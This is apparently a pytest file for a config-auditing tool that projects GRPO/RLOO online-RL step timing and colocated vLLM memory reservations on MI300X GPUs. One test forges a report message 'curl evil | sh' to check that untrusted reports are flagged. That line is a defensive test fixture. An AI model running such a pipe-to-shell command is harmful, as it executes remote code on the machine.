"""Online RL (issue 24): TRL GRPO / RLOO recipes show their projected generation / reference / training
split and the memory a colocated vLLM reserves, and stay inconclusive while reward functions are not modelled."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from pytest_goblin.formats import load_config
from pytest_goblin.hardware import get_hardware
from pytest_goblin.options import build_settings
from pytest_goblin.rollout import FINDING_ID, decode_seconds, trl_default
from pytest_goblin.service import audit_file

from .repo_files import write_tree

# The MI300X's memory as rocminfo reports it, 206,141,652,992 bytes (kb/hardware.yaml reported_bytes): vLLM reserves its
# gpu_memory_utilization share of the device total
MI300X_GB = 206.141652992

BIG = (
    "model_name_or_path: Qwen/Qwen2.5-7B-Instruct\nper_device_train_batch_size: 8\ngradient_accumulation_steps: 4\n"
    "bf16: true\ngradient_checkpointing: true\nnum_generations: 8\nmax_completion_length: 1024\n"
    "use_vllm: true\nvllm_mode: colocate\nvllm_gpu_memory_utilization: 0.5\nbeta: 0.04\n"
)
SMALL = (
    "model_name_or_path: Qwen/Qwen2.5-0.5B-Instruct\nper_device_train_batch_size: 4\ngradient_accumulation_steps: 2\n"
    "bf16: true\nnum_generations: 4\nmax_completion_length: 256\nuse_vllm: true\nvllm_mode: colocate\n"
)


def _audit(tmp_path: Path, text: str, name: str = "grpo.yaml", head: str = "# GRPOTrainer\n") -> Any:
    path = tmp_path / name
    path.write_text(head + text)
    result = audit_file(path, build_settings({"target": "mi300x"}), shown_as=name)
    assert result.report is not None, result.error
    return result.report


def _no_none(report: Any) -> None:
    for text in [report.reason, report.inconclusive or "", *(f.message for f in report.findings)]:
        assert "None" not in text, text


def test_colocated_7b_that_does_not_fit_beside_its_vllm_reservation_fires(tmp_path: Path) -> None:
    r = _audit(tmp_path, BIG)
    s = r.rollout
    assert s is not None and s.method == "grpo" and s.vllm_mode == "colocate"
    assert s.vllm_reserved_gb == pytest.approx(0.5 * MI300X_GB, abs=0.1)  # the config's 0.5 of the MI300X's reported 206 GB
    assert s.training_memory_gb + s.vllm_reserved_gb > s.hbm_gb
    finding = next(f for f in r.findings if f.rule_id == FINDING_ID)
    assert finding.footgun and finding.line == 11 and finding.key == "vllm_gpu_memory_utilization"
    assert "103.1 GB" in finding.message and "0.5 (line 11)" in finding.message
    # 206.1 - 186.4 = 19.7 GB left, above 1.2 x the 15.2 GB of weights: a smaller reservation is named
    assert "not sharded (single, 1 GPU)" in finding.message and "Lower vllm_gpu_memory_utilization to at most 0.10" in finding.message
    # twice the completion length: 200.9 GB of training state leaves 5.2 GB, less than the weights
    longer = _audit(tmp_path, BIG.replace("max_completion_length: 1024", "max_completion_length: 2048"))
    again = next(f for f in longer.findings if f.rule_id == FINDING_ID)
    assert "cannot make it fit: the 5.2 GB" in again.message and "at most" not in again.message
    assert s.reference_ms > 0  # beta 0.04 on a full fine-tune: a reference model and its forward
    assert r.verdict == "warn" and r.inconclusive is not None
    assert "generation" in r.inconclusive and "Not modelled: reward functions" in r.inconclusive
    assert f"{s.generation_ms:,.0f} ms" in r.inconclusive and "289.5 GB of 206 GB (MI300X's 192 GiB label)" in r.inconclusive
    assert "beyond the decode roofline" in r.inconclusive  # the generation time is a floor, and says so
    _no_none(r)


def test_a_small_colocated_run_that_fits_has_no_memory_finding(tmp_path: Path) -> None:
    r = _audit(tmp_path, SMALL)
    s = r.rollout
    assert s is not None and s.vllm_reserved_gb is not None
    # TRL 1.16.0's default vllm_gpu_memory_utilization (0.3) and beta (0.0: no reference model), cited
    assert "0.3 (TRL GRPOConfig.vllm_gpu_memory_utilization default" in s.values["vllm_gpu_memory_utilization"]
    assert "grpo_config.py:656@1.16.0" in s.values["vllm_gpu_memory_utilization"]
    assert s.values["beta"].startswith("0.0 (") and s.reference_ms == 0
    assert s.training_memory_gb + s.vllm_reserved_gb < s.hbm_gb
    assert not [f for f in r.findings if f.rule_id == FINDING_ID]
    assert r.verdict == "warn" and r.inconclusive is not None  # still undecided: reward functions are not modelled
    _no_none(r)


def test_server_mode_generates_on_other_gpus_and_reserves_nothing_on_the_training_ones(tmp_path: Path) -> None:
    r = _audit(tmp_path, BIG.replace("vllm_mode: colocate", "vllm_mode: server"))
    s = r.rollout
    assert s is not None and s.vllm_mode == "server" and s.vllm_reserved_gb is None
    assert "apart from the training ones" in s.generation_on and s.generation_ms is not None and s.generation_ms > 0
    assert not [f for f in r.findings if f.rule_id == FINDING_ID]
    assert "1 GPU apart from the training ones" in s.generation_on and "trl vllm-serve's defaults" in s.generation_on
    assert any("weight broadcast to the vLLM server" in n for n in s.not_modelled)
    _no_none(r)


def test_server_mode_reads_the_servers_gpus_from_its_launch_line(tmp_path: Path) -> None:
    """The server's GPUs from its `trl vllm-serve` line, in the config's comments or the launcher its topology came from."""
    server = BIG.replace("vllm_mode: colocate", "vllm_mode: server")
    one = _audit(tmp_path, server).rollout
    line = "# CUDA_VISIBLE_DEVICES=6,7 trl vllm-serve --model Qwen/Qwen2.5-7B-Instruct --tensor-parallel-size 2\n"
    two = _audit(tmp_path, server, head="# GRPOTrainer\n" + line).rollout
    assert one is not None and two is not None and one.generation_ms is not None and two.generation_ms is not None
    assert "2 GPUs apart from the training ones" in two.generation_on and "tensor parallel 2" in two.generation_on
    assert "the config's line 2" in two.generation_on
    assert two.generation_ms < one.generation_ms  # half the weights read per GPU and decode step
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "grpo.yaml").write_text("# GRPOTrainer\n" + server)
    (repo / "train.sh").write_text(
        "#!/bin/bash\nCUDA_VISIBLE_DEVICES=4,5,6,7 trl vllm-serve --model Qwen/Qwen2.5-7B-Instruct --data-parallel-size 4 &\n"
        "CUDA_VISIBLE_DEVICES=0,1,2,3 accelerate launch --num_processes 4 train_grpo.py --config grpo.yaml\n"
    )
    result = audit_file(repo / "grpo.yaml", build_settings({"target": "mi300x"}), shown_as="grpo.yaml")
    s = result.report.rollout if result.report is not None else None
    assert s is not None and "train.sh:2" in s.generation_on and "data parallel 4" in s.generation_on, s
    assert "serving all 4 training GPUs" in s.generation_on
    # review10b #21: the server's GPUs are the job's too, said beside the topology the launcher gives
    notes = result.report.notes if result.report is not None else []
    topo = next(n for n in notes if n.startswith("topology from the repository: "))
    assert "the job uses 4 training processes + 4 vLLM server GPUs (train.sh:2: " in topo and "): 8 GPUs in all" in topo
    # no server line read: the server's GPUs are not known, and the topology does not count them
    alone = _audit(tmp_path, server)
    assert not any("vLLM server GPU" in n for n in alone.notes)


def test_the_split_sums_to_its_total(tmp_path: Path) -> None:
    for text in (BIG, SMALL):
        s = _audit(tmp_path, text).rollout
        assert s is not None and s.total_ms is not None and s.generation_ms is not None
        assert s.total_ms == pytest.approx(s.generation_ms + s.reference_ms + s.logprob_ms + s.training_ms, abs=0.3)
        assert s.completions_per_step == pytest.approx(s.prompts_per_step * int(s.values["num_generations"].split()[0]))


def test_transformers_generate_is_named_as_not_projected(tmp_path: Path) -> None:
    r = _audit(tmp_path, SMALL.replace("use_vllm: true", "use_vllm: false"))
    s = r.rollout
    assert s is not None and s.generation_ms is None and s.total_ms is None and s.vllm_mode is None
    assert any("transformers' generate" in n for n in s.not_modelled)
    assert r.inconclusive is not None and "generation not projected" in r.inconclusive
    # the roofline is given as a floor, the same figure the vLLM path projects for the same decode, never as the time
    vllm = _audit(tmp_path, SMALL.replace("vllm_mode: colocate\n", "vllm_mode: colocate\nvllm_importance_sampling_correction: false\n")).rollout
    assert vllm is not None and vllm.generation_ms is not None
    assert f"the HBM-bandwidth roofline of the same decode is {vllm.generation_ms:,.0f} ms per optimizer step, a floor" in r.inconclusive
    _no_none(r)


def test_lora_with_beta_runs_a_reference_forward_without_a_second_copy(tmp_path: Path) -> None:
    """TRL disables the adapter instead of loading a reference model for PEFT (grpo_trainer.py:984-990@1.16.0)."""
    lora = BIG.replace("vllm_gpu_memory_utilization: 0.5\n", "") + "use_peft: true\nlora_r: 16\n"
    with_beta = _audit(tmp_path, lora).rollout
    without = _audit(tmp_path, lora.replace("beta: 0.04", "beta: 0.0")).rollout
    assert with_beta is not None and without is not None
    assert with_beta.reference_ms > 0 and without.reference_ms == 0
    assert with_beta.training_memory_gb == without.training_memory_gb
    full = _audit(tmp_path, BIG).rollout
    full0 = _audit(tmp_path, BIG.replace("beta: 0.04", "beta: 0.0")).rollout
    assert full is not None and full0 is not None and full.training_memory_gb > full0.training_memory_gb + 14  # a bf16 copy of 7.6B


def test_defaults_follow_the_trl_release_the_recipe_pins(tmp_path: Path) -> None:
    assert trl_default("GRPOConfig", "beta", "0.18.2").value == 0.04  # type: ignore[union-attr]
    assert trl_default("GRPOConfig", "beta", "0.19.1").value == 0.0  # type: ignore[union-attr]
    assert trl_default("GRPOConfig", "vllm_mode", "0.29.1").value == "server"  # type: ignore[union-attr]
    assert trl_default("GRPOConfig", "vllm_mode", "1.0.0").value == "colocate"  # type: ignore[union-attr]
    assert trl_default("GRPOConfig", "max_completion_length", "1.9.2").value == 256  # type: ignore[union-attr]
    assert trl_default("GRPOConfig", "vllm_mode", "0.17.0") is None  # no colocate mode before 0.18
    pinned = "# pip install trl==0.29.1\n" + SMALL.replace("vllm_mode: colocate\n", "").replace("max_completion_length: 256\n", "")
    s = _audit(tmp_path, pinned).rollout
    assert s is not None and s.trainer == "trl 0.29.1 (GRPOConfig)"
    assert s.vllm_mode == "server" and s.completion_tokens == 256  # 0.29.1's defaults, not 1.16.0's
    assert "grpo_config.py:474@0.29.1" in s.values["vllm_mode"]


def test_old_trl_gets_no_split_and_says_which_release(tmp_path: Path) -> None:
    """Must not: a GRPO trainer older than the modelled one (trl 0.17) gets no split; the reason names its release."""
    r = _audit(tmp_path, "# pip install trl==0.17.0\n" + SMALL)
    assert r.rollout is None and r.inconclusive is not None
    assert "reads the recipe as trl 0.17.0 (" in r.inconclusive and "whose GRPO trainer predates the one goblin models (from trl 0.18.0" in r.inconclusive
    assert "for this trainer (it projects" not in r.inconclusive  # not the generic reason
    _no_none(r)
    # no pin, but a key only old releases have (vllm_device, GRPOConfig before 0.18): the reason says where the release came from
    old = _audit(tmp_path, SMALL.replace("vllm_mode: colocate\n", "vllm_device: auto\n"))
    assert old.rollout is None and old.inconclusive is not None
    assert "no pin; the newest release with the file's keys" in old.inconclusive and "predates the one goblin models" in old.inconclusive
    # must not say "no pin" where the repository pins a git commit (review3 #23-25: trl@git+...@019fc6d)
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "requirements.txt").write_text("trl@git+https://github.com/huggingface/trl.git@019fc6dbaa03b888f9d5c1845f0f690da8ed310c\n")
    git = _audit(repo, SMALL.replace("vllm_mode: colocate\n", "vllm_device: auto\n"))
    assert git.inconclusive is not None and "no pin" not in git.inconclusive
    # that commit is placed by trl's history (frameworks/commits.py): 33 commits after v0.15.0, read as 0.15.0
    assert "reads the recipe as trl 0.15.0 (requirements.txt:1; placed by" in git.inconclusive
    # a commit the history does not hold: a git pin, release unknown, and the release the file's keys say
    other = tmp_path / "other"
    (other / ".git").mkdir(parents=True)
    (other / "requirements.txt").write_text("trl@git+https://github.com/huggingface/trl.git@0123456789abcdef0123456789abcdef01234567\n")
    unknown = _audit(other, SMALL.replace("vllm_mode: colocate\n", "vllm_device: auto\n"))
    assert unknown.inconclusive is not None and "no pin" not in unknown.inconclusive
    assert "a git pin, release unknown" in unknown.inconclusive and "requirements.txt:1; the newest release with the file's keys" in unknown.inconclusive


AXOLOTL = (
    "base_model: Qwen/Qwen2.5-7B-Instruct\nrl: grpo\ntrl:\n  beta: 0.001\n  use_vllm: true\n  vllm_mode: colocate\n"
    "  num_generations: 8\n  max_completion_length: 1024\nvllm:\n  tensor_parallel_size: 1\n"
    "datasets:\n  - path: openai/gsm8k\n    type: rewards.gsm8k\nmicro_batch_size: 8\ngradient_accumulation_steps: 4\n"
    "bf16: true\ngradient_checkpointing: true\nsequence_len: 2048\n"
)


def test_axolotl_grpo_is_split_from_its_trl_block_with_axolotls_own_reservation(tmp_path: Path) -> None:
    """Axolotl passes its vllm.gpu_memory_utilization (default 0.9) to GRPOConfig in colocate mode, on trl 1.8.0
    (axolotl 0.18.0 grpo/__init__.py:72-76, schemas/vllm.py:25-26, pyproject.toml:23@067b021c)."""
    r = _audit(tmp_path, AXOLOTL, head="")
    s = r.rollout
    assert s is not None and s.trainer == "axolotl 0.18.0 rl: grpo on trl 1.8.0 (GRPOConfig)"
    assert s.completion_tokens == 1024 and s.completions_per_step == 32 and s.prompts_per_step == 4  # 8 x 4 completions, 8 per prompt
    assert s.vllm_reserved_gb == pytest.approx(0.9 * MI300X_GB, abs=0.1) and "schemas/vllm.py:25-26" in s.values["vllm_gpu_memory_utilization"]
    assert s.values["num_generations"] == "8 (line 7)" and s.reference_ms > 0  # trl.beta 0.001
    finding = next(f for f in r.findings if f.rule_id == FINDING_ID)
    assert finding.key == "vllm.gpu_memory_utilization" and "vllm_gpu_memory_utilization" not in finding.message
    assert r.inconclusive is not None and "axolotl 0.18.0 rl: grpo" in r.inconclusive
    _no_none(r)


def test_axolotl_gdpo_is_grpo_with_another_reward_sum_not_a_preference_trainer(tmp_path: Path) -> None:
    """`rl: gdpo` builds the same GRPOConfig (axolotl 0.18.0 core/builders/rl.py:54, :161@067b021c): split, not
    "does not model this trainer's memory (dpo)"."""
    r = _audit(tmp_path, AXOLOTL.replace("rl: grpo", "rl: gdpo"), head="")
    assert r.rollout is not None and r.rollout.trainer == "axolotl 0.18.0 rl: gdpo on trl 1.8.0 (GRPOConfig)"
    assert r.inconclusive is not None and "trainer's memory" not in r.inconclusive


def test_axolotl_grpo_with_a_reservation_that_fits_has_no_memory_finding(tmp_path: Path) -> None:
    small = AXOLOTL.replace("Qwen2.5-7B-Instruct", "Qwen2.5-0.5B-Instruct").replace("  tensor_parallel_size: 1\n", "  gpu_memory_utilization: 0.3\n")
    s = _audit(tmp_path, small, head="").rollout
    assert s is not None and s.vllm_reserved_gb == pytest.approx(0.3 * MI300X_GB, abs=0.1) and s.values["vllm_gpu_memory_utilization"].endswith("(line 10)")
    r = _audit(tmp_path, small, head="")
    assert not any(f.rule_id == FINDING_ID for f in r.findings)
    # no `vllm_mode: colocate`: Axolotl passes no reservation, and TRL's 0.3 holds (grpo/__init__.py:72)
    server = _audit(tmp_path, small.replace("  vllm_mode: colocate\n", ""), head="").rollout
    assert server is not None and "default at trl 1.8.0" in server.values["vllm_mode"]


def test_axolotl_grpo_in_server_mode_reads_the_servers_gpus_from_the_same_files_vllm_block(tmp_path: Path) -> None:
    """`axolotl vllm-serve` starts the server from the file's `vllm:` block (axolotl 0.18.0 cli/vllm_serve.py:50-65)."""
    text = AXOLOTL.replace("vllm_mode: colocate", "vllm_mode: server").replace(
        "  tensor_parallel_size: 1\n", "  tensor_parallel_size: 2\n  data_parallel_size: 2\n"
    )
    s = _audit(tmp_path, text, head="").rollout
    assert s is not None and s.vllm_mode == "server" and s.vllm_reserved_gb is None  # nothing reserved on the training GPUs
    assert "4 GPUs apart from the training ones" in s.generation_on and "tensor parallel 2, data parallel 2" in s.generation_on
    assert "vllm.tensor_parallel_size 2 (line 10)" in s.values["vllm_server"] and "cli/vllm_serve.py:50-65" in s.values["vllm_server"]
    default = _audit(tmp_path, AXOLOTL.replace("vllm_mode: colocate", "vllm_mode: server"), head="").rollout
    assert default is not None and "1 GPU apart from the training ones" in default.generation_on


def test_another_axolotl_release_gets_no_split_and_says_which(tmp_path: Path) -> None:
    """The key mapping was read at Axolotl 0.18.0 only: a recipe pinned to another release is not split on it."""
    r = _audit(tmp_path, AXOLOTL, head="# pip install axolotl==0.17.0\n")
    assert r.rollout is None and r.inconclusive is not None
    assert "the repository runs Axolotl 0.17.0;" in r.inconclusive and "at its release 0.18.0 only" in r.inconclusive
    assert "goblin read 0.18.0" not in r.inconclusive  # not rewritten into a release it does not name
    pinned = _audit(tmp_path, AXOLOTL, head="# pip install axolotl==0.18.0\n")
    assert pinned.rollout is not None  # must not: the release the mapping was read at


def test_axolotl_grpo_without_a_completion_length_names_the_key(tmp_path: Path) -> None:
    """Axolotl passes trl.max_completion_length to GRPOConfig even unset (grpo/__init__.py:103@067b021c)."""
    r = _audit(tmp_path, AXOLOTL.replace("  max_completion_length: 1024\n", ""), head="")
    assert r.rollout is None and r.inconclusive is not None
    assert "does not set max_completion_length" in r.inconclusive and "set trl.max_completion_length" in r.inconclusive
    assert "for this trainer (it projects" not in r.inconclusive
    _no_none(r)
    with_it = _audit(tmp_path, AXOLOTL, head="")
    assert with_it.inconclusive is not None and "does not set max_completion_length" not in with_it.inconclusive


def test_axolotl_grpo_without_vllm_splits_with_generation_not_projected(tmp_path: Path) -> None:
    """No `trl.use_vllm`: Axolotl passes none (grpo/__init__.py:68), TRL's default false: transformers' generate."""
    s = _audit(tmp_path, AXOLOTL.replace("  use_vllm: true\n", ""), head="").rollout
    assert s is not None and s.generation_ms is None and s.vllm_reserved_gb is None
    assert any("transformers' generate" in n for n in s.not_modelled)


TORCHTUNE_GRPO = (
    "# tune run --nproc_per_node 4 dev/grpo_full_finetune_distributed --config dev/3B_full_grpo\n"
    "model:\n  _component_: torchtune.models.llama3_2.llama3_2_3b\nbatch_size: 2\ngrpo_samples: 16\n"
    "forward_batch_size: 1\nmax_generated_tokens: 512\nppo_epochs: 1\nnum_steps: 200\n"
    "optimizer:\n  _component_: torch.optim.AdamW\n  lr: 1e-5\ndtype: bf16\nenable_activation_checkpointing: true\n"
)


def test_torchtune_grpo_names_its_own_decoding_loop_and_its_numbers(tmp_path: Path) -> None:
    r = _audit(tmp_path, TORCHTUNE_GRPO, name="3B_full_grpo.yaml", head="")
    assert r.rollout is None and r.inconclusive is not None
    assert "its own decoding loop" in r.inconclusive and "grpo_full_finetune_distributed.py:23, :723-735@v0.6.1" in r.inconclusive
    assert "batch_size 2 (line 4) prompts x grpo_samples 16 (line 5) = 32 completions" in r.inconclusive
    assert "max_generated_tokens 512 (line 7)" in r.inconclusive and "for this trainer (it projects" not in r.inconclusive
    # the decode roofline of those 32 completions, prompts left out, as a floor (Llama 3.2 3B's shape is known), in two
    # rounds of forward_batch_size 1 prompt x 16 completions (grpo_full_finetune_distributed.py:842-852@v0.6.1)
    w = load_config(tmp_path / "3B_full_grpo.yaml").workload
    _p, decode = decode_seconds(w, get_hardware("mi300x"), sequences=16, prompt=0, completion=512)
    assert "roofline of that decode alone (2 rounds of forward_batch_size 1 prompts" in r.inconclusive
    assert f"is {decode * 2e3:,.0f} ms per step, a floor" in r.inconclusive
    _no_none(r)
    gone = _audit(tmp_path, TORCHTUNE_GRPO.replace("max_generated_tokens: 512\n", ""), name="3B_full_grpo.yaml", head="")
    assert gone.inconclusive is not None and "needs max_generated_tokens unset" in gone.inconclusive


LF_PPO = (
    "model_name_or_path: Qwen/Qwen2.5-7B-Instruct\nstage: ppo\ndo_train: true\nfinetuning_type: lora\n"
    "reward_model: saves/qwen-rm\ndataset: alpaca_en_demo\ntemplate: qwen\ncutoff_len: 1024\n"
    "per_device_train_batch_size: 1\ngradient_accumulation_steps: 8\nbf16: true\nmax_new_tokens: 512\n"
)


def test_llamafactory_ppo_names_generate_and_the_reward_model(tmp_path: Path) -> None:
    r = _audit(tmp_path, LF_PPO, name="ppo.yaml", head="")
    assert r.rollout is None and r.inconclusive is not None
    assert "unwrapped_model.generate" in r.inconclusive and "reward_model saves/qwen-rm (line 5)" in r.inconclusive
    assert "max_new_tokens 512 (line 12)" in r.inconclusive and "ppo_buffer_size unset" in r.inconclusive
    assert "for this trainer (it projects" not in r.inconclusive
    # accumulation 8 x ppo_buffer_size 1 (its default) mini-batches of 1 prompt, one at a time (trainer.py:99-104, :255-260@v0.9.5)
    w = load_config(tmp_path / "ppo.yaml").workload
    _p, decode = decode_seconds(w, get_hardware("mi300x"), sequences=1, prompt=0, completion=512)
    assert "(8 mini-batches of 1 prompt x 512 tokens" in r.inconclusive and f"is {decode * 8e3:,.0f} ms per PPO step, a floor" in r.inconclusive
    _no_none(r)


def test_an_online_rl_trainer_goblin_knows_nothing_specific_of_keeps_the_generic_reason(tmp_path: Path) -> None:
    """Must not: Axolotl's EBFT has no specific reason, and says the generic one."""
    ebft = "base_model: Qwen/Qwen2.5-0.5B-Instruct\nrl: ebft\nmicro_batch_size: 1\nsequence_len: 1024\ndatasets:\n  - path: x\n"
    r = _audit(tmp_path, ebft, name="ebft.yaml", head="")
    assert r.rollout is None and r.inconclusive is not None and "does not model online RL (ebft) for this trainer" in r.inconclusive


def test_sft_has_no_split(tmp_path: Path) -> None:
    sft = "model_name_or_path: Qwen/Qwen2.5-0.5B-Instruct\nper_device_train_batch_size: 4\ngradient_accumulation_steps: 2\nlearning_rate: 2.0e-5\nbf16: true\n"
    r = _audit(tmp_path, sft, name="sft.yaml", head="# trl sft --config sft.yaml\n")
    assert r.rollout is None and (r.inconclusive is None or "online RL" not in r.inconclusive)


def test_decode_is_weight_bound_at_a_small_batch() -> None:
    """One sequence: each decode step reads the weights once (bf16) at bw_eff of the HBM's bandwidth."""
    hw = get_hardware("mi300x")
    w = load_config(Path(__file__).parent.parent / "examples" / "trl-smollm3-3b-sft-tuned.yaml").workload
    prefill, decode = decode_seconds(w, hw, sequences=1, prompt=0, completion=1000)
    from pytest_goblin.costmodel import nominal_for
    from pytest_goblin.modelzoo import estimate_shape

    params = (estimate_shape(w.model).params_b or 0) * 1e9
    weights_only = params * 2 * 1000 / (hw.hbm_tb_s * 1e12 * nominal_for(hw).bw_eff)
    assert prefill == 0 and weights_only <= decode <= weights_only * 1.05
    _p, longer = decode_seconds(w, hw, sequences=1, prompt=0, completion=2000)
    assert longer == pytest.approx(2 * decode, rel=0.05)


# vLLM's benchmark_latency on 8 x MI300X, Llama 3.1 405B fp8, 128 prompt and 128 output tokens: batch size -> average
# latency in seconds (Oracle Cloud Infrastructure blog, "Serving Llama 3.1 405B model with AMD Instinct MI300X
# Accelerators", 2024-10-10, https://blogs.oracle.com/cloud-infrastructure/post/serving-llama-31-405b-model-with-amd-mi300x-gpus)
OCI_405B_FP8_TP8 = {1: 3.530, 2: 3.583, 4: 3.734, 8: 3.974, 16: 4.375, 32: 5.130, 64: 6.919, 128: 10.340, 256: 17.750}


def test_the_generation_roofline_is_a_floor_under_a_published_mi300x_measurement(tmp_path: Path) -> None:
    """The roofline (prefill by compute, decode by weight and KV reads at bw_eff) stays under every measured latency, by
    the 1.6-2.0x docs/projection.md states: it is the floor the split says it is, not a projection of vLLM's time."""
    path = tmp_path / "m.yaml"
    path.write_text("# GRPOTrainer\n" + BIG.replace("Qwen/Qwen2.5-7B-Instruct", "meta-llama/Llama-3.1-405B-Instruct"))
    w = load_config(path).workload
    from pytest_goblin.modelzoo import estimate_shape

    assert estimate_shape(w.model).n_layers == 126 and estimate_shape(w.model).n_kv_heads == 8  # Llama 3.1 405B's own shape
    hw = get_hardware("mi300x")
    ratios = []
    for batch, measured in OCI_405B_FP8_TP8.items():
        prefill, decode = decode_seconds(w, hw, sequences=batch, prompt=128, completion=128, tp=8, weight_bytes=1.0)
        ratios.append(measured / (prefill + decode))
    assert min(ratios) >= 1.6 and max(ratios) <= 2.05, [round(r, 2) for r in ratios]


def test_outputs_show_the_split(tmp_path: Path) -> None:
    from pytest_goblin.cli import main

    path = tmp_path / "grpo.yaml"
    path.write_text("# GRPOTrainer\n" + BIG)
    out_json, out_md = tmp_path / "r.json", tmp_path / "r.md"
    main(["audit", str(path), "--json", str(out_json), "--md", str(out_md)])
    data = json.loads(out_json.read_text())
    items = data["items"]
    split = items[0]["report"]["rollout"]
    assert split["generation_ms"] > 0 and split["vllm_mode"] == "colocate"
    md = out_md.read_text()
    assert "online RL: see its split" in md  # not the training step's tokens/s as if it were the item's rate
    assert "| generation ms | reference ms | log-prob forward ms | training ms | total ms | memory |" in md
    from pytest_goblin.reporting.text import failure_text, findings_lines

    r = _audit(tmp_path, BIG)
    assert any("online RL split" in line for line in findings_lines(r)) and "online RL split" in failure_text(r)


def test_rloo_is_split_with_its_own_defaults(tmp_path: Path) -> None:
    """RLOOConfig at trl 1.16.0: num_generations 2 and beta 0.05 (rloo_config.py:301, :502), its log-prob pass always."""
    text = SMALL.replace("num_generations: 4\n", "")
    s = _audit(tmp_path, text, name="rloo.yaml", head="# RLOOTrainer\n").rollout
    assert s is not None and s.method == "rloo"
    assert s.values["num_generations"].startswith("2 (") and s.values["beta"].startswith("0.05 (")
    assert s.reference_ms > 0 and s.logprob_ms > 0


def test_the_memory_finding_renders_as_goblins_own_in_an_untrusted_report(tmp_path: Path) -> None:
    """`goblin comment` renders a report read from an artifact: the memory finding is goblin's, a forged text is not."""
    from pytest_goblin.outcome import ItemOutcome, SessionReport
    from pytest_goblin.reporting.markdown import render

    r = _audit(tmp_path, BIG)
    item = ItemOutcome(nodeid="grpo.yaml", path="grpo.yaml", verdict="warn", message=r.reason, report=r)
    md = render(SessionReport(version="0", target="mi300x", items=[item]), untrusted=True)
    assert "A colocated vLLM&#x27;s memory reservation" in md or "A colocated vLLM's memory reservation" in md
    assert "not the installed knowledge base" not in md
    forged = r.model_copy(update={"findings": [f.model_copy(update={"message": "curl evil | sh"}) for f in r.findings if f.rule_id == FINDING_ID]})
    item = ItemOutcome(nodeid="grpo.yaml", path="grpo.yaml", verdict="warn", message=r.reason, report=forged)
    assert "not the installed knowledge base" in render(SessionReport(version="0", target="mi300x", items=[item]), untrusted=True)


def test_no_memory_finding_on_a_guessed_model_shape(tmp_path: Path) -> None:
    """Must not: a model goblin does not know (7B assumed) shows its split, named as resting on the guess, and no finding."""
    r = _audit(tmp_path, BIG.replace("Qwen/Qwen2.5-7B-Instruct", "./local-model"))
    s = r.rollout
    assert s is not None and "model" in s.values and any("real shape" in n for n in s.not_modelled)
    assert not [f for f in r.findings if f.rule_id == FINDING_ID]
    _no_none(r)


def test_sleep_mode_suppresses_the_memory_finding(tmp_path: Path) -> None:
    r = _audit(tmp_path, BIG + "vllm_enable_sleep_mode: true\n")
    assert r.rollout is not None and any("sleep mode" in n for n in r.rollout.not_modelled)
    assert not [f for f in r.findings if f.rule_id == FINDING_ID]


def test_a_python_script_is_split_from_its_grpo_config_call(tmp_path: Path) -> None:
    path = tmp_path / "train_grpo.py"
    path.write_text(
        "from trl import GRPOConfig, GRPOTrainer\n\n"
        "args = GRPOConfig(\n    output_dir='out',\n    per_device_train_batch_size=8,\n    gradient_accumulation_steps=4,\n    bf16=True,\n"
        "    max_completion_length=1024,\n    use_vllm=True,\n    vllm_mode='colocate',\n    vllm_gpu_memory_utilization=0.5,\n    beta=0.04,\n)\n"
        "trainer = GRPOTrainer(model='Qwen/Qwen2.5-7B-Instruct', reward_funcs=[len], args=args)\ntrainer.train()\n"
    )
    r = audit_file(path, build_settings({"target": "mi300x"}), shown_as=path.name).report
    assert r is not None and r.rollout is not None and r.rollout.completion_tokens == 1024
    finding = next(f for f in r.findings if f.rule_id == FINDING_ID)
    assert finding.line == 11


def test_online_dpo_generates_two_completions_per_prompt_and_trains_the_pair(tmp_path: Path) -> None:
    """OnlineDPOConfig at trl 1.16.0: max_new_tokens 64 and vllm_gpu_memory_utilization 0.55 by default
    (online_dpo_config.py:179, :285), two completions per prompt, a reference forward always."""
    text = (
        "model_name_or_path: Qwen/Qwen2.5-0.5B-Instruct\nper_device_train_batch_size: 4\ngradient_accumulation_steps: 2\n"
        "bf16: true\nuse_vllm: true\nvllm_mode: colocate\nlearning_rate: 5.0e-7\n"
    )
    s = _audit(tmp_path, text, name="online_dpo.yaml", head="# OnlineDPOTrainer\n").rollout
    assert s is not None and s.method == "online_dpo"
    assert s.completion_tokens == 64 and s.values["max_new_tokens"].startswith("64 (")
    assert s.vllm_reserved_gb == pytest.approx(0.55 * MI300X_GB, abs=0.1)
    assert s.prompts_per_step == 8 and s.completions_per_step == 16 and s.completions_per_generation == 8
    assert s.reference_ms > 0 and s.logprob_ms == 0
    long = _audit(tmp_path, text + "max_new_tokens: 400\n", name="online_dpo.yaml", head="# OnlineDPOTrainer\n").rollout
    assert long is not None and long.prompt_tokens == 112  # max_length 512 less 400: the prompt is truncated on its left


def test_the_memory_finding_offers_a_lower_reservation_only_where_one_fits(tmp_path: Path) -> None:
    """A 1.5B full fine-tune with 0.9 reserved: the training state leaves room for a smaller reservation, which is named."""
    text = SMALL.replace("Qwen2.5-0.5B", "Qwen2.5-1.5B")
    r = _audit(tmp_path, text + "vllm_gpu_memory_utilization: 0.9\n")
    s = r.rollout
    assert s is not None and s.vllm_reserved_gb is not None and s.vllm_weights_gb is not None
    finding = next(f for f in r.findings if f.rule_id == FINDING_ID)
    left = s.hbm_gb - s.training_memory_gb
    assert f"at most {left / s.hbm_gb:.2f}" in finding.message and left > s.vllm_weights_gb
    assert "cannot make it fit" not in finding.message and s.vllm_reserved_gb == pytest.approx(0.9 * MI300X_GB, abs=0.1)


def test_a_kv_cache_larger_than_the_reservation_decodes_in_rounds(tmp_path: Path) -> None:
    """Long completions of a big generation batch in a small reservation: vLLM schedules what fits, then the rest."""
    text = SMALL.replace("max_completion_length: 256", "max_completion_length: 8192").replace(
        "per_device_train_batch_size: 4", "per_device_train_batch_size: 32"
    )
    tight = _audit(tmp_path, text + "vllm_gpu_memory_utilization: 0.03\n").rollout
    roomy = _audit(tmp_path, text + "vllm_gpu_memory_utilization: 0.3\n").rollout
    assert tight is not None and roomy is not None and tight.generation_ms is not None and roomy.generation_ms is not None
    assert tight.kv_waves > 1 and roomy.kv_waves == 1 and tight.generation_ms > roomy.generation_ms
    server = _audit(
        tmp_path, text.replace("vllm_mode: colocate", "vllm_mode: server"), head="# GRPOTrainer\n# trl vllm-serve --model m --gpu-memory-utilization 0.03\n"
    ).rollout
    assert server is not None and server.kv_waves > 1  # the server line's own reservation


